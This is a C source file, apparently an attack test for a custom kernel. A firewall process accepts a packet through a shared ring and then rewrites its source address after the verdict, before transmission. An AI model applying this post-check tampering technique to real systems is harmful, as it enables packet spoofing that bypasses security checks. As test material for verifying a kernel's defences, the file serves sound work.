/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * flip for firewall.path=ring, where no switch is needed: lets a packet pass as it is, has the kernel take the answer
 * in, and changes the source address behind that, before the card comes for the packet. The ring is never unmapped.
 */
#include "attack.h"
#include "../../include/ring.h"

enum { RING_PAGES = 16 };

struct ring *ring;
unsigned char *victim;

static void accept(const struct upcall *question)
{
    ring->answers[ring->answered % RING_ENTRIES] =
        (struct ring_answer){question->id, question->length, ACCEPT};
    ring->taken++;
    ring->answered++;
}

OBSERVABLE static void tamper(unsigned char *packet)
{
    static const unsigned char forged[4] = {10, 66, 66, 66};
    memcpy(packet + IP_SOURCE_AT, forged, sizeof forged);
}

/* One question after the other; the first packet on its way out is the victim. */
static void answer_all(void)
{
    while (ring->taken != ring->asked) {
        struct upcall question = ring->questions[ring->taken % RING_ENTRIES];
        accept(&question);
        pkt_verdict(0, 0, 0, 0);
        if (question.operation != HOOK_POSTROUTING || victim)
            continue;
        victim = (unsigned char *)question.address;
        tamper(victim);
        say("the packet has another source now, and nobody will look again");
    }
}

int main(void)
{
    ring = ukshm_register(ROLE_FIREWALL, 0, 0, RING_PAGES, UKSHM_VERSION);
    if (is_error(ring))
        fail("the kernel gives me no ring (error %ld)", (long)ring);
    long count;
    while ((count = pkt_recv(0, 0)) > 0 || count == -EINTR)
        answer_all();
    return 0;
}
